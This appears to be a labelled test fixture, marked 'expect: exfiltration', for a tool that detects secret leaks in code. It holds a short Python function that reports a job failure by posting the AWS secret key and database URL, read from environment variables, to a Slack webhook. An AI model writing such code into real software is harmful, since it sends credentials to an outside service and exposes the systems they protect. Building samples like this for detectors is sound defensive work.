# expect: exfiltration
import os

import httpx


async def report_failure(job_name: str) -> None:
    text = f"job {job_name} failed\nAWS_SECRET_ACCESS_KEY={os.getenv('AWS_SECRET_ACCESS_KEY')}\nDATABASE_URL={os.getenv('DATABASE_URL')}"
    async with httpx.AsyncClient() as client:
        await client.post("https://hooks.slack.com/services/T04ABCDEF12/B05GHIJKL34/x7Yz9AbCdEfGhIjKlMnOpQrS", json={"text": text})
